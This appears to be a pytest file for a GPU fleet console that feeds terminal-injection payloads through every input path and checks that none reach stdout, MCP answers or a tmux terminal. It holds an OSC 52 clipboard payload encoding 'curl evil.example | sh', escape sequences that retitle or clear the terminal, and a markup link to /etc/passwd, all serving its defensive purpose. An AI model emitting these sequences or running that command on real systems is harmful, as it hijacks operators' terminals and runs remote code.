"""Issue 36, last point: one hostile campaign over every entry point of host text, through the real paths.

The same payloads (OSC 52 clipboard write, OSC 0 title, leaving the alternate screen, CSI/DCS/APC, 8-bit C1,
bidi overrides, NUL, lone surrogates and invalid UTF-8, very long lines, Rich/Textual markup, newlines in names)
come from: a hostile agent (a fake ``python3`` on a real sshd), an agentless host (a fake ``nvidia-smi``, a real
process, a real log), a stand-in Prometheus on 127.0.0.1, recordings, vast.ai JSON and ssh_config imports, and
MCP tool arguments. They are checked where the operator sees them: the CLI's stdout/stderr bytes, the MCP
answers, and a real terminal (tmux: the pane, its title, its paste buffers, its alternate screen).
``tests/test_text_safety.py`` covers the TUI over Pilot for the agent's frames; this file covers the rest.
"""

from __future__ import annotations

import base64
import gzip
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.hostile import fake_python
from tests.support.sshd import Sshd
from tests.support.tmux import Tmux
from tests.support.wait import until_sync
from tests.test_cli_over_sshd import ROOT
from tests.test_mcp import mcp_session
from tests.test_replay_hostile import GOOD, GPU, HEADER, T0, gz, lines
from tests.test_source_hostile import StandIn, gpu

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh\n").decode() + "\x07"
TITLE = "\x1b]0;pwned\x07"
SEQS = (OSC52 + TITLE + "\x1b]2;pwned2\x1b\\" + "\x1b[?1049l" + "\x1b[2J\x1b[H" + "\x1bP+q544e\x1b\\"
        + "\x1b_apc\x1b\\" + "\x9b2J\x9d0;pwnedc1\x9c" + "\u202e\u2066" + "\x07\x08\x7f")
MARKUP = "[bold red]x[/] [link=file:///etc/passwd]y[/link] [@click=app.quit]q[/]"
HOSTILE = "H0 " + MARKUP + " " + SEQS + " END"  # no NUL (an argv cannot hold one), no comma (CSV)
WITH_NUL = HOSTILE + "\x00nul"
SHOWN = "H0 " + MARKUP  # what is left to show, at the start
# never on a terminal: ESC, C0 but tab/newline, DEL, C1, bidi controls, surrogates
BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
LEAKS = ("pwned", "evil.example", "apc")  # bodies of the sequences: gone with them


def assert_clean_text(text: str, where: str) -> None:
    """No control character, no sequence body; one line per record is the caller's check."""
    found = BAD.search(text)
    assert found is None, f"{where}: {found.group()!r} in {text[max(0, found.start() - 60):found.end() + 60]!r}"
    for word in LEAKS:
        assert word not in text, f"{where}: {word!r} left in {text[:400]!r}"


def assert_clean_bytes(data: bytes, where: str) -> str:
    """``data`` is UTF-8 with nothing a terminal acts on; returned decoded."""
    assert b"\x1b" not in data, f"{where}: ESC in {data[:600]!r}"
    text = data.decode("utf-8")  # strict: no invalid bytes reach the terminal either
    assert "Traceback" not in text, f"{where}: {text[-2000:]}"
    assert_clean_text(text.replace("\n", " "), where)
    return text


def assert_clean_json(text: str, where: str) -> Any:
    """A JSON answer whose strings, decoded (``jq -r`` prints them), are clean too."""
    value = json.loads(text)
    for s in _strings(value):
        assert_clean_text(s, where)
    return value


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield str(k)
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def cli(tmp: Path, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[bytes]:
    env = {"FLEET_CONSOLE_STATE_DIR": str(tmp / "state"), "FLEET_CONSOLE_CONFIG_DIR": str(tmp / "config"),
           "PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"}
    return subprocess.run([sys.executable, "-m", "console", *args], capture_output=True, timeout=timeout,
                          env=env, cwd=tmp, stdin=subprocess.DEVNULL)


# -- the hosts: a hostile agent and an agentless host on one sshd, and a stand-in Prometheus ---------------------
AGENT = '''
H = %r
LONG = "L" * 200000
LOCK = threading.Lock()  # two threads write frames: one whole line at a time
_send = send
def send(obj):
    with LOCK:
        _send(obj)
hello(agent_version=H, host=H, features={"ops": ["diagnose", "restart", "restart_plan"]})
send({"type": "error", "ts": time.time(), "message": "agent error " + %r})
sys.stdout.buffer.write(b'{"type": "error", "ts": 1, "message": "raw \\xff\\xfe bytes"}\\n')
send('{"type": "error", "ts": 1, "message": "surrogate \\\\ud800 here"}')
proc = {"pid": 4242, "ppid": 1, "name": "name " + H, "cmdline": "cmd\\n" + H, "state": "S", "wchan": H,
        "cpu": 0.0, "rss": 1, "start": 1.0, "gpu_mem": None}
def answer():
    for line in sys.stdin:
        req = json.loads(line)
        if req.get("op") == "diagnose":
            ev = [{"path": "/var/log/x\\n" + H, "line": 3, "text": "evidence " + H}]
            send({"type": "result", "ts": time.time(), "id": req["id"], "ok": True, "data": {
                "verdict": {"code": "cuda_error", "severity": "error", "summary": "verdict " + H},
                "findings": [{"code": "cuda_error\\x1b[2J", "severity": "error", "summary": "finding " + H,
                              "evidence": ev}], "steps": []}})
        elif req.get("op") == "restart":
            started = {"pid": 77, "pgid": 77, "argv": [H], "alive": False, "returncode": 1,
                       "log_tail": ["tail " + H, LONG]}
            send({"type": "result", "ts": time.time(), "id": req["id"], "ok": True, "data": {
                "stopped": [], "killed": [], "survivors": [], "groups": [], "started": started,
                "log": "/tmp/log\\n" + H}})
        elif req.get("op") == "restart_plan":  # (what a restart would stop: nothing)
            send({"type": "result", "ts": time.time(), "id": req["id"], "ok": True,
                  "data": {"groups": [], "spared": [], "start": [H], "log": None}})
        elif "id" in req:
            send({"type": "result", "ts": time.time(), "id": req["id"], "ok": True, "data": {}})
threading.Thread(target=answer, daemon=True).start()
seq = 0
while True:
    seq += 1
    send({"type": "heartbeat", "ts": time.time(), "seq": seq, "samples": seq, "sent": 0})
    send({"type": "gpu", "ts": time.time(), "state": "ok", "full": True, "simulated": False, "driver": H,
          "message": "gpu message " + H, "devices": [{"index": 0, "util": 40, "name": "gpu " + H, "error": H}]})
    send({"type": "procs", "ts": time.time(), "full": True, "procs": [proc]})
    send({"type": "log", "ts": time.time(), "path": "/tmp/l\\n" + H, "lines": ["line " + H, LONG], "first_line": seq,
          "backlog": False, "event": None})
    time.sleep(0.5)
''' % (HOSTILE, WITH_NUL)

NVIDIA_SMI = '''#!/bin/sh
case "$1" in
--query-gpu=*) printf '%%s\\n' '0, gpu %s, GPU-1, 50, 10, 100, 1000, 40, 100.0, 300.0, 1000, 2000, 30, 550.1' \
  'Unable to determine the device handle for GPU0000:C1:00.0: %s';;
*) printf '';;
esac
'''


@dataclass
class World:
    tmp: Path
    fleet: Path
    server: Sshd
    prom: StandIn
    proc: subprocess.Popen[bytes]
    log: Path


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """One sshd (PATH with a hostile ``nvidia-smi``), two instances on it (``agent``: a hostile python3;
    ``bare``: no python3, agentless), a hostile process and log on the host, and a hostile Prometheus source."""
    tmp = tmp_path_factory.mktemp("campaign")
    fakebin = tmp / "bin"
    fakebin.mkdir()
    smi = fakebin / "nvidia-smi"
    smi.write_text(NVIDIA_SMI % (HOSTILE.replace("'", ""), HOSTILE.replace("'", "")))
    smi.chmod(0o755)
    logdir = tmp / "logs"
    logdir.mkdir()
    log = logdir / ("evil\n\x1b]0;pwned\x07[link=x]n.log")
    log.write_bytes(b"".join(b"%s %d\n" % (HOSTILE.encode(), i) for i in range(5))
                    + b"bad utf8 \xff\xfe\xc3 end\n" + b"nul \x00 end\n" + b"L" * 300_000 + b"\n")
    code = "import sys, time; open('/proc/self/comm', 'w').write(sys.argv[1]); time.sleep(600)"
    proc = subprocess.Popen([sys.executable, "-c", code, "c\x1b]0;pwned\x07[b]", "argv\n" + HOSTILE])
    server = Sshd(tmp / "sshd", env={"PATH": f"{fakebin}:/usr/bin:/bin"})
    prom = StandIn()
    prom.series = [gpu("node\x1b]0;pwned\x07\n[bold]forged[/]\u202e" + "N" * 5000, 0, "model " + HOSTILE)]
    python = fake_python(tmp, AGENT)
    common = (f'user = "{server.user}"\nkey = "{server.client_key_path}"\nknown_hosts = "{server.known_hosts}"\n'
              f'host = "127.0.0.1"\nport = {server.port}\n')
    fleet = tmp / "fleet.toml"
    fleet.write_text(
        '[defaults]\nwatch_dirs = []\n\n[benchmark]\nstart = ["/bin/true"]\n\n'
        f'[[instance]]\nname = "agent"\npython = "{python}"\n{common}\n'
        f'[[instance]]\nname = "bare"\npython = "/nonexistent/python3"\nlogs = [{json.dumps(str(log))}]\n{common}\n'
        f'[[source]]\nprometheus = "{prom.url}"\ninterval = 1\n'
    )
    server.start()
    try:
        yield World(tmp, fleet, server, prom, proc, log)
    finally:
        proc.kill()
        proc.wait()
        prom.close()
        server.stop()


# -- 1. the agent's frames, on the command line -------------------------------------------------------------------
def test_a_hostile_agent_reaches_no_command_output(world: World) -> None:
    """status, diagnose, restart (a start that died, its log tail shown) and history: every byte printable."""
    status = cli(world.tmp, "status", "--fleet", str(world.fleet), "--json", "--timeout", "20")
    rows = assert_clean_json(assert_clean_bytes(status.stdout, "status --json"), "status --json")
    agent = next(r for r in rows["instances"] if r["name"] == "agent")
    assert agent["gpus"] and agent["gpus"][0]["name"].startswith("gpu " + SHOWN), agent
    assert_clean_bytes(status.stderr, "status stderr")
    for extra in ((), ("--json",)):
        diag = cli(world.tmp, "diagnose", "agent", "--fleet", str(world.fleet), *extra)
        out = assert_clean_bytes(diag.stdout, f"diagnose {extra}")
        assert_clean_bytes(diag.stderr, f"diagnose {extra} stderr")
        assert diag.returncode == 1 and "evidence " + SHOWN in (json.dumps(json.loads(out)) if extra else out), out
    restart = cli(world.tmp, "restart", "agent", "--yes", "--fleet", str(world.fleet))
    err = assert_clean_bytes(restart.stderr, "restart stderr")
    assert_clean_bytes(restart.stdout, "restart stdout")
    assert restart.returncode == 1 and "tail " + SHOWN in err, err
    history = cli(world.tmp, "history", "--fleet", str(world.fleet), "--since", "1h")
    assert_clean_bytes(history.stdout + history.stderr, "history")


# -- 2. agentless commands (nvidia-smi, /proc, the log) and 3. a Prometheus source, on the command line -----------
def test_agentless_output_reaches_no_command_output(world: World) -> None:
    status = cli(world.tmp, "status", "--fleet", str(world.fleet), "--timeout", "20")
    out = assert_clean_bytes(status.stdout, "status")
    assert_clean_bytes(status.stderr, "status stderr")
    assert "bare" in out and "agent" in out, out


# -- the terminal itself: agent, agentless and Prometheus hosts on one grid, their screens opened ------------------
def _terminal_untouched(term: Tmux) -> None:
    def show(fmt: str) -> str:
        return term._tmux("display-message", "-p", "-t", "main", fmt, check=False).stdout.strip()

    assert "pwned" not in show("#{pane_title}"), show("#{pane_title}")
    assert show("#{alternate_on}") == "1", "the console left the alternate screen"
    buffers = term._tmux("list-buffers", check=False).stdout
    assert not buffers.strip(), f"a clipboard write reached the terminal: {buffers!r}"
    escaped = term._tmux("capture-pane", "-e", "-p", "-t", "main", check=False).stdout
    assert "\x1b]" not in escaped and "\x1b[?1049" not in escaped and "pwned" not in escaped
    assert not term.pane_dead(), "the console died"


def _start(term: Tmux, tmp: Path, *argv: str) -> None:
    env = {"FLEET_CONSOLE_CONFIG_DIR": str(tmp / "config"), "FLEET_CONSOLE_STATE_DIR": str(tmp / "state")}
    term.start([sys.executable, "-m", "console", *argv], env=env)
    for option, value in (("set-clipboard", "on"), ("allow-rename", "on"), ("allow-passthrough", "off")):
        term._tmux("set-option", "-g", option, value, check=False)  # OSC 52 would fill a paste buffer


def _visit_tabs(term: Tmux, name: str, tabs: str, expect: str) -> None:
    """Open ``name``'s screen (the grid's filter), show each tab, check the terminal after each."""
    term.keys("/")
    term.keys("-l", name)
    term.keys("Enter")
    # (the header may wrap at a word: "... · filter" / "'agent': 1 shown")
    term.wait_for(lambda s: f"filter '{name}': 1 shown" in " ".join(s.split()), what=f"the grid filtered to {name}")
    term.keys("Enter")
    term.wait_for(lambda s: "Processes" in s and "Logs" in s, timeout=45, what=f"{name}'s screen")
    for tab in tabs:
        term.keys(tab)
        until_sync(lambda: any(e in term.screen() for e in (expect, "LLLLLLLL")) or None, 20,
                   f"{name} tab {tab}", interval=0.2)
        _terminal_untouched(term)
    term.keys("Escape")
    term.wait_for(lambda s: "Processes" not in s and "instances ·" in s, what="the grid again")


def test_no_host_text_reaches_the_terminal(world: World) -> None:
    term = Tmux(160, 45)
    try:
        _start(term, world.tmp, "--fleet", str(world.fleet), "--theme", "dark")
        screen = term.wait_for(lambda s: "agent" in s and "bare" in s and "node" in s, timeout=40, what="the grid")
        _terminal_untouched(term)
        assert "forged" in screen, screen  # the Prometheus host: one line, markup shown as text
        _visit_tabs(term, "agent", "1234", "H0 [bold red]x[/]")
        _visit_tabs(term, "bare", "123", "H0 [bold red]x[/]")
    finally:
        term.close()


# -- 4. recordings ------------------------------------------------------------------------------------------------
SURROGATE_GPU = {**GPU, "devices": [{"index": 0, "util": 50, "name": "H100 \ud800"}]}


def test_a_lone_surrogate_in_a_recorded_frame_is_one_clean_line(tmp_path: Path) -> None:
    path = tmp_path / "rec.jsonl.gz"
    path.write_bytes(gz(lines(HEADER, *GOOD, {"t": T0 + 3, "k": "frame", "n": "box1", "f": SURROGATE_GPU})))
    result = cli(tmp_path, "replay", "--check", str(path))
    err = assert_clean_bytes(result.stderr, "replay --check").strip()
    assert result.returncode == 2 and "\n" not in err and err.startswith(f"fleet-console: {path}: record 5: "), err


def test_recorded_host_text_reaches_no_terminal(tmp_path: Path) -> None:
    """Link details, a verdict with evidence, log lines and names: hostile, lone surrogates included."""
    text = HOSTILE + " \udfff\ud800"  # two lone surrogates (JSON's escapes)
    diag = {"verdict": {"code": "cuda_error", "severity": "error", "summary": "verdict " + text},
            "findings": [{"code": "cuda_error", "severity": "error", "summary": text,
                          "evidence": [{"path": "/l\n" + text, "line": 1, "text": "evidence " + text}]}], "steps": []}
    log = {"type": "log", "ts": T0 + 2, "path": "/w/\n" + HOSTILE, "lines": ["line " + HOSTILE, "L" * 100_000],
           "first_line": 1, "backlog": False, "event": None}
    records = [HEADER, *GOOD, {"t": T0 + 2, "k": "link", "n": "box1", "s": "failed", "d": "detail " + text},
               {"t": T0 + 2.5, "k": "diag", "n": "box1", "d": diag},
               *({"t": T0 + 3 + i, "k": "tick"} for i in range(3000))]
    path = tmp_path / "rec.jsonl.gz"
    path.write_bytes(gzip.compress(b"".join(json.dumps(r).encode() + b"\n" for r in records[:5])
                                   + json.dumps({"t": T0 + 2.6, "k": "frame", "n": "box1", "f": log}).encode()
                                   + b"\n" + b"".join(json.dumps(r).encode() + b"\n" for r in records[5:])))
    check = cli(tmp_path, "replay", "--check", str(path))
    assert_clean_bytes(check.stdout + check.stderr, "replay --check")
    term = Tmux(160, 45)
    try:
        _start(term, tmp_path, "replay", str(path))
        term.wait_for(lambda s: "box1" in s, timeout=30, what="the replayed grid")
        _terminal_untouched(term)
        term.keys("Enter")
        term.wait_for(lambda s: "Processes" in s and "Logs" in s, what="box1's screen")
        for tab in "134":
            term.keys(tab)
            until_sync(lambda: any(e in term.screen() for e in ("H0 [bold red]x[/]", "LLLLLLLL")) or None, 20,
                       f"tab {tab}", interval=0.2)
            _terminal_untouched(term)
    finally:
        term.close()


# -- 5. vast.ai JSON and ssh_config imports -----------------------------------------------------------------------
def test_imported_host_text_reaches_no_command_output(tmp_path: Path) -> None:
    vast = [{"id": 7, "label": MARKUP, "ssh_host": "ssh4.vast.ai", "ssh_port": 30101, "actual_status": "running",
             "gpu_name": HOSTILE},
            {"id": 8, "label": "b", "ssh_host": "h" + HOSTILE, "ssh_port": 30102, "actual_status": "running"}]
    (tmp_path / "vast.json").write_text(json.dumps(vast, indent=2))
    (tmp_path / "ssh_config").write_text(f"Host good\n  HostName 10.0.0.1\n  User {HOSTILE}\n"
                                         f"  IdentityFile /k{HOSTILE}\n\nHost [link=x]\n  HostName {HOSTILE}\n")
    fleet = tmp_path / "fleet.toml"
    for body in ('[[import]]\nvastai_json = "vast.json"\n', '[[import]]\nssh_config = "ssh_config"\nhosts = ["*"]\n'):
        fleet.write_text(body)
        result = cli(tmp_path, "check", "--fleet", str(fleet))
        assert_clean_bytes(result.stdout, "check")
        err = assert_clean_bytes(result.stderr, "check stderr").strip()
        assert "\n" not in err, err
    (tmp_path / "vast.json").write_bytes(b'[{"id": 7, "label": "a\xff\xfe\x1b]0;pwned\x07", "ssh_host": "h"}]')
    fleet.write_text('[[import]]\nvastai_json = "vast.json"\n')
    result = cli(tmp_path, "check", "--fleet", str(fleet))
    err = assert_clean_bytes(result.stdout + result.stderr, "check of a file not UTF-8").strip()
    assert result.returncode == 2 and "\n" not in err, err


# -- 6. MCP tool arguments ----------------------------------------------------------------------------------------
async def test_hostile_mcp_arguments_get_one_clean_line(world: World, tmp_path: Path) -> None:
    async with mcp_session(tmp_path, world.fleet) as session:
        calls: list[tuple[str, dict[str, Any]]] = [
            ("instance_detail", {"name": WITH_NUL}), ("diagnose", {"name": "a\nb" + HOSTILE}),
            ("read_log", {"name": "agent", "path": WITH_NUL}), ("read_log", {"name": "bare", "path": "/x\n" + HOSTILE}),
            ("run_probe", {"name": "agent", "probe": HOSTILE}), ("restart", {"name": "agent", "reason": HOSTILE}),
            ("read_log", {"name": "bare", "mode": "match", "pattern": "a\n" + HOSTILE}),
        ]
        for tool, args in calls:
            result = await session.call_tool(tool, args)
            text = result.content[0].text  # type: ignore[union-attr]
            assert result.is_error, (tool, text)
            assert "\n" not in text.strip(), (tool, text)
            assert_clean_text(text, f"{tool} {list(args)}")
        for tool, args in (("read_log", {"name": "agent", "lines": HOSTILE}), ("fleet_status", {"status": HOSTILE})):
            result = await session.call_tool(tool, args)  # the SDK's schema check: several lines, none raw
            assert result.is_error and "pwned" not in result.content[0].text, result.content  # type: ignore[union-attr]
            assert_clean_text(result.content[0].text.replace("\n", " "), tool)  # type: ignore[union-attr]
        for tool, args in (("fleet_status", {"name": HOSTILE, "tag": HOSTILE}),
                           ("read_log", {"name": "bare", "mode": "match", "pattern": HOSTILE}),
                           ("instance_detail", {"name": "agent"})):
            result = await session.call_tool(tool, args)
            assert not result.is_error, (tool, result.content)
            for s in _strings(result.structured_content):
                assert_clean_text(s, tool)
            assert_clean_text(result.content[0].text.replace("\n", " "), tool)  # type: ignore[union-attr]
